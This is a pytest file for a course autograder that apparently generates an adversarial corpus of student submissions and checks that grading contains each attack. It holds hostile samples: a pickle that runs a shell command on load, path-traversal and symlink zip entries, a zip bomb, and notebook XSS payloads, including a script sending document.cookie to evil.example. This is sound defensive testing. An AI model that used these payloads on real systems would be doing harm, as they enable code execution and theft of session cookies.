"""The adversarial corpus, graded as one batch: every attack is contained and gets the grade it deserves.

The batch also holds a correct submission, which must keep full marks; the
reports are written by the trusted process after the batch and must be the
grader's own; no secret of the grader and no answer-key content may appear in
any feedback.
"""

from __future__ import annotations

import contextlib
import csv
import fnmatch
import io
import json
import os
import re
import shutil
import stat
import time
import tomllib
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser

import pytest
import torch

from autograder.batch.options import ReportOptions
from autograder.batch.reports import write_reports
from autograder.batch.run import grade_many
from autograder.grading import limits
from autograder.host.sandbox import Launcher, bwrap_path
from autograder.report.gradescope import gradescope_results
from tests.conftest import ROOT
from tests.test_similarity import _similarity_growth, _zeros_weight_file

CORPUS = ROOT / "submissions" / "cpsc663-ex2-attacks"
BASE = ROOT / "submissions" / "cpsc663-ex2" / "sequential-style"
EXPECTED = {name: entry for name, entry in tomllib.loads((CORPUS / "expected.toml").read_text()).items()
            if isinstance(entry, dict)}
SECRET = "s3cr3t-token-that-must-never-leak"


def protections() -> set[str]:
    found = set()
    if bwrap_path():
        found.add("bubblewrap")
    if Launcher().drop_uid is not None:
        found.add("privilege drop")
    return found


def runnable(name: str) -> str | None:
    """None if the attack can be run here, else why not."""
    needed = EXPECTED[name].get("requires", [])
    if needed and not set(needed) & protections():
        return f"needs {' or '.join(needed)} to be contained, and this machine has neither"
    return None


# ---------------------------------------------------------------- builders of the generated attacks


def _ae_files(target):
    target.mkdir(parents=True)
    shutil.copy(BASE / "prob5_AE.py", target / "prob5_AE.py")
    shutil.copy(BASE / "mnist_ae.pt", target / "mnist_ae.pt")


class _RunsAShellCommand:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def malicious_pickle(batch, name, scratch):
    _ae_files(batch / name)
    torch.save({"encoder.0.weight": _RunsAShellCommand(scratch / "pwned")}, batch / name / "mnist_ae.pt")
    return batch / name


def escaping_zip(batch, name, scratch):
    path = batch / f"{name}.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.write(BASE / "prob5_AE.py", "prob5_AE.py")
        zf.write(BASE / "mnist_ae.pt", "mnist_ae.pt")
        zf.writestr("../../escaped.py", "owned = 1\n")
        zf.writestr(str(scratch / "absolute-escape.py"), "owned = 1\n")
        link = zipfile.ZipInfo("link.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    return path


def zip_bomb(batch, name, scratch):
    path = batch / f"{name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.write(BASE / "prob5_AE.py", "prob5_AE.py")
        with zf.open("bomb.bin", "w") as bomb:
            zeros = b"\0" * (1 << 24)
            for _ in range(70):  # 1.1 GB
                bomb.write(zeros)
    return path


def huge_source(batch, name, scratch):
    _ae_files(batch / name)
    filler = ("# " + "x" * 98 + "\n") * (50 * 1024 * 1024 // 101)
    (batch / name / "prob5_AE.py").write_text((BASE / "prob5_AE.py").read_text() + filler)
    return batch / name


def latin1_source(batch, name, scratch):
    _ae_files(batch / name)
    text = 'author = "Renée"\n' + (BASE / "prob5_AE.py").read_text()
    (batch / name / "prob5_AE.py").write_bytes(text.encode("latin-1"))
    return batch / name


def scripted_written_answers(batch, name, scratch):
    """The AE beside a notebook of written answers whose markup and outputs would run script if pasted as they
    are: <script>, <img onerror>, a javascript: link, an iframe, inline SVG; a PNG payload that breaks out of
    src="..." when decoded loosely, an SVG image with onload, an HTML output with a script, a 'JPEG' that is one."""
    import base64

    _ae_files(batch / name)
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()

    def output(data):
        return {"output_type": "display_data", "metadata": {}, "data": data}

    cells = [
        ("markdown", "# Exercise 2: written answers", None),
        ("markdown", "## Problem 1.1\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
                     "<img src=x onerror=\"alert('markdown')\">\n[click me](javascript:alert('link'))\n"
                     "<iframe src=\"https://evil.example\"></iframe>\nThe answer is below.", None),
        ("code", "show()", [
            output({"image/png": png + '" onload="alert(\'png\')', "text/plain": "<Figure>"}),
            output({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
                                     "<script>alert(1)</script></svg>", "text/plain": "<svg figure>"}),
            output({"text/html": "<script>alert('html output')</script>",
                    "text/plain": "<b onmouseover=alert(1)>x</b>"}),
            output({"image/jpeg": base64.b64encode(b"<script>alert('not a jpeg')</script>").decode()})]),
        ("markdown", "## Problem 2.1\n<svg><script>alert('inline svg')</script></svg>\n"
                     "<a href=\"javascript:alert(2)\">answer</a>", None),
    ]
    notebook = {"cells": [{"cell_type": kind, "id": f"cell-{index}", "metadata": {}, "source": source,
                           **({"execution_count": 1, "outputs": outputs} if kind == "code" else {})}
                          for index, (kind, source, outputs) in enumerate(cells)],
                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (batch / name / "written_answers.ipynb").write_text(json.dumps(notebook, indent=1))
    return batch / name


def weights_that_unpack_large(batch, name, scratch):
    _ae_files(batch / name)
    _zeros_weight_file(scratch / "zeros.pt", 8)
    for index in range(200):
        shutil.copy(scratch / "zeros.pt", batch / name / f"checkpoint{index:03}.pt")
    return batch / name


BUILDERS = {f.__name__: f for f in (malicious_pickle, escaping_zip, zip_bomb, huge_source, latin1_source,
                                    scripted_written_answers, weights_that_unpack_large)}


# ---------------------------------------------------------------- the batch


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade the runnable corpus plus a correct submission in one batch, with short time limits."""
    scratch = tmp_path_factory.mktemp("attack-scratch")
    batch = tmp_path_factory.mktemp("batch")
    paths = {}
    for name, entry in EXPECTED.items():
        if runnable(name) is None:
            if "generate" in entry:
                paths[name] = BUILDERS[entry["generate"]](batch, name, scratch)
            else:
                paths[name] = batch / name
                shutil.copytree(CORPUS / name, paths[name])
    paths["control"] = batch / "control"
    shutil.copytree(BASE, paths["control"])
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(limits, "TIMEOUT_CALL", 10)
        patch.setattr(limits, "IMPORT_SECONDS", 10)
        patch.setenv("AUTOGRADER_TEST_SECRET", SECRET)
        started = time.monotonic()
        # One at a time, in the file's order: an attack with `after` is graded next, by the same slot's worker.
        results = grade_many(list(paths.values()), jobs=1, device="cpu")
        seconds = time.monotonic() - started
        out = tmp_path_factory.mktemp("reports")
        printed = io.StringIO()
        with contextlib.redirect_stdout(printed):
            write_reports(results, ReportOptions(out=str(out), junit=str(out / "junit.xml"),
                                                 canvas=True))
    by_name = {name: result for name, result in zip(paths, results, strict=True)}
    return {"results": by_name, "seconds": seconds, "scratch": scratch, "batch": batch, "out": out,
            "printed": printed.getvalue()}


def test_every_committed_attack_has_its_folder_and_back():
    folders = {p.name for p in CORPUS.iterdir() if p.is_dir() and not p.name.startswith(".")}
    assert folders == {name for name, entry in EXPECTED.items() if "generate" not in entry}


def test_an_attack_that_looks_for_what_another_left_is_graded_right_after_it():
    """`after`: the entry just before in the file (the batch's order) and a name that sorts after it (a batch
    of the folder's order), with the same protections required."""
    names = list(EXPECTED)
    readers = {name: entry["after"] for name, entry in EXPECTED.items() if "after" in entry}
    assert readers, "the corpus has no attack that looks for what another left"
    for reader, writer in readers.items():
        assert names.index(reader) == names.index(writer) + 1, f"{reader} must come right after {writer}"
        assert writer < reader, f"{reader} must sort after {writer}"
        assert EXPECTED[reader].get("requires") == EXPECTED[writer].get("requires"), reader


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_attack_is_contained_and_gets_the_grade_it_deserves(graded, name):
    if runnable(name):
        pytest.skip(runnable(name))
    entry = EXPECTED[name]
    result = graded["results"][name]
    if "error" in entry:
        assert result.error and entry["error"] in result.error and not result.checks
        return
    assert result.error is None, result.error
    checks = [c for c in result.checks if _matches(entry["keyword"], c.check_id)]
    assert checks, f"no check matches {entry['keyword']!r}"
    wanted = {}
    for pattern, words in entry["fails"].items():
        matched = [c.check_id for c in checks if fnmatch.fnmatchcase(c.check_id, pattern)]
        assert matched, f"{pattern!r} matches no graded check"
        wanted.update(dict.fromkeys(matched, words))
    failed = {c.check_id: c.feedback for c in checks if not c.passed}
    assert set(failed) == set(wanted), f"{name}: failed {failed}, expected failures {sorted(wanted)}"
    for check_id, words in wanted.items():
        assert words in failed[check_id], f"{name} {check_id}: {words!r} not in {failed[check_id]!r}"


def _matches(keyword: str, check_id: str) -> bool:
    """The corpus' keywords: alternatives joined by ' or ', each a substring of the check id."""
    return any(part.strip() in check_id for part in keyword.split(" or "))


@pytest.mark.slow
def test_the_correct_submission_in_the_same_batch_keeps_full_marks(graded):
    control = graded["results"]["control"]
    assert control.error is None and control.score == control.max_score == 90, control.failed()


@pytest.mark.slow
def test_nothing_secret_reaches_any_feedback(graded):
    reference = (ROOT / "reference" / "cpsc663_ex2" / "thresholds.json").read_text()[:200]
    for name, result in graded["results"].items():
        text = json.dumps(result.as_dict())
        assert SECRET not in text, name
        assert "LEAKED" not in text, name
        assert reference not in text and "calibration_seeds" not in text, name


@pytest.mark.slow
def test_reports_are_the_graders_own(graded):
    out = graded["out"]
    for name, result in graded["results"].items():
        written = json.loads((out / f"{result.submission}.json").read_text())
        assert written == json.loads(json.dumps(gradescope_results(result))), name
    assert (out / "gradebook.csv").read_text().count("\n") == len(graded["results"]) + 1


UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.slow
def test_no_report_carries_a_students_control_characters_or_formulas(graded):
    """Every file written and the table printed: no terminal escape, carriage return, NUL, bidirectional
    override or surrogate (a CSV's own line ends aside), the JUnit file well-formed, no CSV cell a formula."""
    out = graded["out"]
    for path in [*out.iterdir(), *out.glob("*/*")]:
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            if path.suffix == ".csv":
                text = text.replace("\r\n", "\n")
            assert not UNSAFE.search(text), f"{path.name}: {UNSAFE.search(text)[0]!r}"
    assert not UNSAFE.search(graded["printed"])
    ET.parse(out / "junit.xml")
    for name in ("gradebook.csv", "gradebook-canvas.csv"):
        cells = [cell for row in csv.reader((out / name).open(newline="")) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    if "=cmd" in graded["results"]:
        assert "'=cmd" in (out / "gradebook.csv").read_text()


@pytest.mark.slow
def test_generated_attacks_left_no_trace_outside(graded):
    scratch = graded["scratch"]
    assert not (scratch / "pwned").exists(), "the malicious pickle ran"
    assert not (scratch / "absolute-escape.py").exists()
    assert not (graded["batch"].parent / "escaped.py").exists() and not (graded["batch"] / "escaped.py").exists()
    if "zip-with-escaping-paths" in graded["results"]:
        notes = " ".join(graded["results"]["zip-with-escaping-paths"].notes)
        assert "a '..' component" in notes and "an absolute path" in notes and "a symbolic link" in notes


class _Markup(HTMLParser):
    """The tags and attributes of a page: what a browser would make live."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.mark.slow
def test_the_written_answers_page_of_a_scripted_notebook_runs_nothing(graded, tmp_path):
    """`autograder export` of the corpus' scripted notebook: its answers are on the page, none of its markup is
    live (no script, frame or inline SVG, no event handler, no link or image source but a re-encoded PNG or
    JPEG), and the page forbids scripts itself."""
    from autograder.export import export_submission
    from autograder.grading.registry import load_assignment

    if "script-in-written-answers" not in graded["results"]:
        pytest.skip("script-in-written-answers was not run")
    exported = export_submission(graded["batch"] / "script-in-written-answers", load_assignment("cpsc663-ex2"),
                                 tmp_path, pdf=False)
    page = exported.html.read_text()
    assert "The answer is below." in page and "written answers from written_answers.ipynb" in exported.note
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    markup = _Markup()
    markup.feed(page)
    tags = {tag for tag, _ in markup.tags}
    assert not tags & {"script", "iframe", "svg", "object", "embed"}, tags
    for tag, attributes in markup.tags:
        assert not [a for a in attributes if a.startswith("on")], (tag, attributes)
        for link in (attributes.get("src"), attributes.get("href")):
            assert link is None or link.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")), link


@pytest.mark.slow
def test_similarity_reads_a_submission_of_weights_that_unpack_large_within_its_budget(graded):
    """The similarity run that ends a batch, over the corpus' 1.6 GiB of deflated zeros and the control, in a
    fresh interpreter: its memory rises by less than the 512 MiB budget of one submission and a slice, and each
    file left unread is named once."""
    if "weights-that-unpack-large" not in graded["results"]:
        pytest.skip("weights-that-unpack-large was not run")
    attack = graded["batch"] / "weights-that-unpack-large"
    measured = _similarity_growth([attack, graded["batch"] / "control"])
    assert measured["grew_mib"] < 1024, measured["grew_mib"]
    unread = [note for note in measured["notes"] if "past the 512 MB of weight files read of one submission" in note]
    assert len(unread) == len({note.split(": not read")[0] for note in unread}) > 100, measured["notes"][:3]


@pytest.mark.slow
def test_print_flood_is_capped(graded):
    result = graded["results"].get("print-flood")
    if result is None:
        pytest.skip("print-flood was not run")
    assert result.score == 23  # the AE's checks and its file: all this submission holds


@pytest.mark.slow
def test_report_what_each_attack_costs(graded, capsys):
    """Not a check: prints the table of attacks, contained or not, and their grading time (pytest -s)."""
    lines = [f"{'attack':32} {'score':>7} {'seconds':>8}  outcome"]
    for name, result in graded["results"].items():
        keyword = EXPECTED[name]["keyword"] if name in EXPECTED else "/"
        graded_checks = [c for c in result.checks if _matches(keyword, c.check_id)]
        failed = ", ".join(c.check_id.rsplit("/", 1)[-1] for c in graded_checks if not c.passed)
        score = f"{sum(c.points for c in graded_checks):g}/{sum(c.max_points for c in graded_checks):g}"
        lines.append(f"{name:32} {score:>7} {result.seconds:>8.1f}  {(result.error or failed or '-')[:80]}")
    lines.append(f"whole batch: {graded['seconds']:.1f} s")
    with capsys.disabled():
        print("\n" + "\n".join(lines))
    assert len(lines) == len(graded["results"]) + 2


def test_protection_in_place_is_reported():
    from autograder.host.sandbox import describe_protection

    missing = describe_protection("cpu")
    assert ("bubblewrap" in protections()) == (not any("bubblewrap" in line for line in missing))
